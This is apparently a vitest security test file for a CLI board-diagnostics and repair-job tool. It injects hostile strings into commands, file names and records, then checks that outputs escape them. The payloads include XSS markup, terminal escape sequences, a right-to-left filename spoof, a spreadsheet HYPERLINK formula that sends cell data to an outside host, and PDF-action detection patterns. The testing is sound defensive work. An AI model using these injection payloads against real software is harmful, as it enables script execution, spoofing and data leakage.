// Names and remarks that are made to do harm, through every command and into every file: what is shown is text.
// Terminals obey escape codes (ECMA-48), pages obey markup, readers of PDF obey actions (ISO 32000-1, 12.6),
// spreadsheets obey formulas.
import { mkdir, readdir, readFile, writeFile } from "node:fs/promises";
import { extname, join } from "node:path";
import { unzipSync, zipSync } from "fflate";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { makeBoard, makeFolder, makeFrame, makeView, writeCsv } from "./make-frames.js";
import { type CliRun, runCli } from "./run-cli.js";

const MARKUP = `<img src=x onerror="alert(1)"><script>alert(2)</script>'&lt;`;
// Title of the window, a colour, one of the upper control characters, a bell, and the cursor up.
const ESCAPES = "\u001b]0;owned\u0007\u001b[31m\u009b2J\u001b[A";
const TURNED = "\u202egnp.exe\u2066\u200b";
const FORMULA = `=HYPERLINK("http://board.example/?"&A1,"open")`;
const EVIL = `${FORMULA}${MARKUP}${ESCAPES}${TURNED}`;

let folder: string;
let remove: () => Promise<void>;
const runs: CliRun[] = [];
const run = async (...words: string[]): Promise<CliRun> => {
  const one = await runCli(words, { cwd: folder });
  runs.push(one);
  return one;
};

beforeAll(async () => {
  ({ folder, remove } = await makeFolder());
  const frames = `f ${MARKUP.replaceAll("/", "")}${ESCAPES}`;
  await mkdir(join(folder, frames));
  await writeCsv(join(folder, frames, "off.csv"), makeFrame(11, 0));
  await writeCsv(join(folder, frames, `=1+1${TURNED} on.csv`), makeFrame(12, 2.4));
  await writeCsv(join(folder, frames, "later.csv"), makeFrame(13, 0.1));
  const board = makeBoard() as { name: string; regions: Record<string, unknown>[] };
  board.name = EVIL;
  board.regions[0] = { ...board.regions[0], ref: EVIL, label: EVIL, nets: [EVIL] };
  await writeFile(join(folder, "board.json"), JSON.stringify(board));
  await writeFile(join(folder, "view.json"), JSON.stringify(makeView()));
  const [off, on, later] = ["off.csv", `=1+1${TURNED} on.csv`, "later.csv"].map((name) => join(frames, name));
  const seen = ["--board", "board.json", "--view", "view.json"];
  await run("find", "--baseline", off!, "--powered", on!, ...seen, "--out", "out-1");
  await run("find", "--baseline", off!, "--powered", later!, ...seen, "--out", "out-2");
  await run("compare", "out-1/findings.json", "out-2/findings.json", "--out", "out-3");
  await run("board", "check", "board.json");
  await run("board", "export", "board.json", "--out", "board.svg");
  await run("job", "new", "job", "--device", EVIL, "--complaint", EVIL, "--board", "board.json");
  await run(
    "job",
    "attempt",
    "job",
    "--baseline",
    off!,
    "--powered",
    on!,
    "--view",
    "view.json",
    "--remark",
    EVIL,
  );
  await run("job", "remark", "job", EVIL);
  await run("job", "reading", "job", "--net", EVIL, "--diode", "0.2", "--remark", EVIL);
  await run("job", "action", "job", "--replaced", EVIL, "--remark", EVIL);
  await run("job", "show", "job");
  await run("job", "report", "job");
  await run("job", "report", "job", "--for", "customer");
  await run("job", "check", "job");
  await run("job", "index", ".");
  await run("job", "pack", "job", "--out", "job.zip");
  // A pack with names of its own, which are left out and told; frames that drop into a watched folder.
  const packed = unzipSync(new Uint8Array(await readFile(join(folder, "job.zip"))));
  await writeFile(join(folder, "more.zip"), zipSync({ ...packed, [`${EVIL}.csv`]: Uint8Array.of(1) }));
  await run("job", "unpack", "more.zip", "unpacked");
  await run("job", "new", "watched", "--device", EVIL);
  await run("watch", frames, "--job", "watched", "--once", "--settle", "0.1", "--gap", "0.1");
  await run("find", "--baseline", off!, "--powered", on!, ...seen, "--json");
  await run("board", "check", "board.json", "--json");
  await run("job", "show", "job", "--json");
  await run("job", "index", ".", "--json");
  // Words that can't be used are said again in errors.
  await run("find", "--baseline", EVIL, "--powered", off!);
  await run("job", "show", EVIL);
  await run(EVIL);
  await run("find", `--${EVIL}`);
}, 240_000);
afterAll(() => remove());

async function filesOf(ending: RegExp): Promise<[name: string, text: string][]> {
  const entries = await readdir(folder, { recursive: true, withFileTypes: true });
  const paths = entries.filter((entry) => entry.isFile() && ending.test(entry.name));
  return Promise.all(
    paths.map(
      async ({ parentPath, name }) => [name, await readFile(join(parentPath, name), "utf8")] as const,
    ),
  ) as Promise<[string, string][]>;
}

it("all of it was taken, or refused with a code", () => {
  for (const { status, err } of runs) {
    expect([0, 2]).toContain(status);
    if (status === 2) expect(err).toMatch(/^E_[A-Z_]+: /);
    expect(err).not.toMatch(/\n\s+at /);
  }
  // Of the calls with words that can be used, all went well.
  expect(runs.slice(0, -4).filter(({ status }) => status !== 0)).toEqual([]);
});

it("JSON on the output says the same as without escapes", () => {
  const shown = runs.flatMap(({ out }) => (out.startsWith("{") ? [JSON.parse(out)] : []));
  expect(shown).toHaveLength(4);
  expect(JSON.stringify(shown[2])).toContain(JSON.stringify(EVIL).slice(1, -1));
});

it("a terminal is told no command", () => {
  for (const { out, err } of runs) {
    // Line ends are the only controls of ours; a pipe gets no colours.
    expect(`${out}${err}`.replaceAll("\n", "")).not.toMatch(/\p{Cc}|[\u202a-\u202e\u2066-\u2069\u200b]/u);
  }
  const said = runs.map(({ out }) => out).join("");
  expect(said).toContain("\\x1b]0;owned\\x07");
  expect(said).toContain("\\u202egnp.exe");
});

describe("files", () => {
  it("pages hold no element, no attribute and no address of theirs", async () => {
    const pages = await filesOf(/\.(?:html|svg)$/);
    // Two of `find`, one of `compare`, the attempt's, two reports of the job, and the drawing.
    expect(pages.length).toBeGreaterThanOrEqual(7);
    expect(pages.map(([name]) => name)).toContain("board.svg");
    for (const [name, text] of pages) {
      expect(text, name).not.toMatch(/<script|<img src=x|onerror="/i);
      expect(text, name).not.toMatch(/\b(?:href|src|action)\s*=\s*["']?\s*(?:https?:|javascript:)/i);
      expect(text.replaceAll(/[\n\t]/g, ""), name).not.toMatch(/\p{Cc}|[\u202a-\u202e\u2066-\u2069]/u);
    }
    expect(pages.some(([, text]) => text.includes("&lt;img src=x onerror=&quot;alert(1)&quot;&gt;"))).toBe(
      true,
    );
  });

  it("a PDF does nothing when it is opened", async () => {
    const pdfs = await filesOf(/\.pdf$/);
    expect(pdfs).toHaveLength(2);
    for (const [, text] of pdfs)
      expect(text).not.toMatch(/\/(?:JavaScript|JS|Launch|OpenAction|AA|URI|EmbeddedFile|SubmitForm)\b/);
  });

  it("JSON holds what was said, to the letter", async () => {
    const job = JSON.parse(await readFile(join(folder, "job/job.json"), "utf8"));
    expect([job.device, job.complaint]).toEqual([EVIL, EVIL]);
    const journal = await readFile(join(folder, "job/journal.jsonl"), "utf8");
    const lines = journal.trimEnd().split("\n");
    expect(lines.map((line) => JSON.parse(line)).filter(({ said }) => said.text === EVIL)).toHaveLength(1);
  });

  it("none is a table that a spreadsheet would take for formulas, and no name of ours begins as one", async () => {
    const ours = (await readdir(folder, { recursive: true })).filter(
      (path) => !path.startsWith("f ") && !path.includes("/frames/"),
    );
    expect(ours.length).toBeGreaterThan(15);
    expect(ours.filter((path) => [".csv", ".tsv", ".xls", ".xlsx"].includes(extname(path)))).toEqual([]);
    expect(ours.flatMap((path) => path.split("/")).filter((name) => /^[=+\-@]/.test(name))).toEqual([]);
  });
});
